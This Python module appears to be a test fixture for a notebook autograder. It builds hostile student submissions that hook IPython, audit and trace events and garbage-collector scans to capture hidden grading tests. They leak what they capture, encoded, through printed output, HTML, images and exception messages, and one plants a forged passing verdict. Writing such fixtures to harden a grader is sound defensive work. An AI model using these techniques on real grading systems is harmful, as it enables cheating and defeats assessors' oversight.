"""Hostile students who try to carry hidden tests into their own feedback page, encoded.

Each one installs, in its first answer cell, a way to see what the grading run does after it (IPython's
pre_run_cell event, a wrapper around run_cell / run_cell_async / transform_cell, an audit hook on compile,
sys.settrace, sys.setprofile, a gc scan, or a graded function that writes its own arguments to fd 1 and 2),
keeps what it sees, and shows it, encoded (base64, hex, rot13, reversed, base32), in every channel a page
could carry: stdout after each cell, HTML and Markdown displays, a PNG with a text chunk and output
metadata, and an exception whose message and class name are encodings. Every payload starts with MARKER (made at run time),
so a marker found in a page means a grading-run output got through.
"""
from attacks.hostile_students import ASSIGNMENT, FUNCTIONS
from samples.notebook_edits import read_release, write_submission

MARKER = "KITLEAK"
HONEST = ["zz_honest_one", "zz_honest_two"]
HONEST_OUTPUT = "an output this honest student saw when they ran the cell"
FORGED_VERDICT = "FORGED-VERDICT: every hidden test passed"

# shared by every attacker: a store that survives cells, and the leak through every channel
PRELUDE = '''
import builtins, base64, codecs, struct, sys, zlib
if not hasattr(builtins, "_kit_seen"):
    builtins._kit_seen = []
builtins._kit_mark = "KIT" + "LEAK"   # made at run time: the marker is in no source a page may show

def _kit_png(raw):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xffffffff)
    return (b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"tEXt", b"Comment\\x00" + raw) + chunk(b"IDAT", zlib.compress(b"\\x00\\x00"))
            + chunk(b"IEND", b""))

def _kit_payload(note):
    seen = [s for s in builtins._kit_seen if isinstance(s, str) and ("grade_case" in s or "layers_dims" in s)]
    return ("" + builtins._kit_mark + " " + note + "\\n" + "\\n".join(dict.fromkeys(seen))[-6000:]).encode()

def _kit_leak(note=""):
    from IPython.display import HTML, Markdown, display
    raw = _kit_payload(note)
    text = raw.decode()
    print("" + builtins._kit_mark + "-B64", base64.b64encode(raw).decode())
    print("" + builtins._kit_mark + "-HEX", raw.hex())
    print("" + builtins._kit_mark + "-ROT", codecs.encode(text, "rot13"))
    print("" + builtins._kit_mark + "-REV", text[::-1])
    display(HTML("<pre>" + builtins._kit_mark + "-HTML %s</pre>" % base64.b64encode(raw).decode()))
    display(Markdown("" + builtins._kit_mark + "-MD " + raw.hex()))
    display({"image/png": _kit_png(raw), "text/plain": "" + builtins._kit_mark + "-IMG"}, raw=True,
            metadata={"image/png": {"kitleak": base64.b64encode(raw).decode()}})

def _kit_raise(note=""):
    raw = _kit_payload(note)
    name = "K" + base64.b32encode(raw[-120:]).decode().rstrip("=")
    raise type(name, (Exception,), {})(base64.b64encode(raw).decode())

builtins._kit_leak, builtins._kit_raise = _kit_leak, _kit_raise
'''

# a tracer or profiler: keeps the graded function's arguments and the source of every cell called
WATCH_CALLS = '''
def _kit_watch(frame, event, arg):
    import linecache
    code = frame.f_code
    if event == "call":
        if code.co_name.startswith("initialize_parameters"):
            builtins._kit_seen.append("layers_dims=%r" % (frame.f_locals.get("layers_dims"),))
        if code.co_filename.startswith("<") or "ipykernel_" in code.co_filename:
            builtins._kit_seen.append("".join(linecache.getlines(code.co_filename)))
    return None
{install}(_kit_watch)
'''

# what each attacker installs in its first answer cell (after PRELUDE)
CAPTURE = {
    "leak_events": '''
get_ipython().events.register("pre_run_cell", lambda info: builtins._kit_seen.append(info.raw_cell))
get_ipython().events.register("post_run_cell", lambda result: builtins._kit_leak("after a cell"))
''',
    "leak_run_cell": '''
_ip = get_ipython()
for _name in ("run_cell", "run_cell_async", "transform_cell"):
    def _wrapper(*args, _original=getattr(_ip, _name), **kwargs):
        builtins._kit_seen.extend(v for v in list(args) + list(kwargs.values()) if isinstance(v, str))
        return _original(*args, **kwargs)
    setattr(_ip, _name, _wrapper)
''',
    "leak_audit": '''
def _kit_audit(event, args):
    if event in ("compile", "exec") and args:
        source = args[0]
        if isinstance(source, bytes):
            source = source.decode("utf-8", "replace")
        if isinstance(source, str):
            builtins._kit_seen.append(source)
        elif hasattr(source, "co_consts"):
            builtins._kit_seen.extend(c for c in source.co_consts if isinstance(c, str))
sys.addaudithook(_kit_audit)
''',
    "leak_settrace": WATCH_CALLS.format(install="sys.settrace"),
    "leak_setprofile": WATCH_CALLS.format(install="sys.setprofile"),
    "leak_gc_scan": "",   # its scan runs in the last answer cell, after two test cells ran
    "leak_fd_write": "",  # its graded function writes its arguments (below)
}

GC_SCAN = '''
import gc, types
for _obj in gc.get_objects():
    if isinstance(_obj, dict):
        _items = list(_obj.values())
    elif isinstance(_obj, (list, tuple)):
        _items = list(_obj)
    elif isinstance(_obj, types.FunctionType):
        _items = list(_obj.__code__.co_consts)
    else:
        continue
    if _obj is not builtins._kit_seen:
        builtins._kit_seen.extend([i for i in _items if isinstance(i, str) and "grade_case(" in i])
'''

# appended to every answer cell of leak_fd_write: the graded function shows the (hidden) arguments it is called with
FD_WRITE = '''
def _kit_spy(function):
    def spy(layers_dims):
        import os
        raw = ("" + builtins._kit_mark + " layers_dims=%r" % (layers_dims,)).encode()
        os.write(1, (builtins._kit_mark + "-FD1 ").encode() + base64.b64encode(raw) + b"\\n")
        os.write(2, (builtins._kit_mark + "-FD2 " + raw.hex() + "\\n").encode())
        print("" + builtins._kit_mark + "-PRINT", codecs.encode(raw.decode(), "rot13"), raw.decode()[::-1])
        builtins._kit_seen.append(raw.decode())
        return function(layers_dims)
    return spy
{function} = _kit_spy({function})
'''


def _answer_cell(nb, function):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution") and
                "def %s" % function in c.source)


def leaking_notebook(name, base):
    """The notebook `base` (a correct one) with attacker `name`'s capture and leaks (see the module's docstring)."""
    first, last = _answer_cell(base, FUNCTIONS[0]), _answer_cell(base, FUNCTIONS[-1])
    first.source = PRELUDE + CAPTURE[name] + "\n" + first.source
    if name == "leak_fd_write":
        for function in FUNCTIONS:
            cell = _answer_cell(base, function)
            cell.source += "\n" + FD_WRITE.format(function=function)
    if name == "leak_gc_scan":
        last.source += "\n" + GC_SCAN
    last.source += '\nbuiltins._kit_leak("last answer")\nbuiltins._kit_raise("last answer")\n'
    first.metadata["kit_page"] = {"submitted": True, "verdict": [FORGED_VERDICT]}   # the page writes its own
    return base


def with_submitted_output(nb):
    """`nb` as an honest student saves it: the first code cell and a self-check carry the outputs they saw."""
    import nbformat
    code = next(c for c in nb.cells if c.cell_type == "code")
    code.outputs = [nbformat.v4.new_output("stream", name="stdout", text=HONEST_OUTPUT + "\n")]
    code.execution_count = 1
    test = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "test_" + FUNCTIONS[0])
    test.outputs = [nbformat.v4.new_output("stream", name="stdout", text="All checks passed.\n")]
    return nb


def write_attackers(root):
    """Every attacker, each on a correct notebook, so only its leak is wrong."""
    from samples.students import correct
    for name in CAPTURE:
        write_submission(name, ASSIGNMENT, leaking_notebook(name, correct(ASSIGNMENT, read_release(ASSIGNMENT, root))),
                         root=root)
    return sorted(CAPTURE)


def write_honest(root):
    """The two honest classmates (correct, with the outputs they saw): named to be graded after every attacker."""
    from samples.students import correct
    for name in HONEST:
        write_submission(name, ASSIGNMENT, with_submitted_output(correct(ASSIGNMENT, read_release(ASSIGNMENT, root))),
                         root=root)
    return list(HONEST)
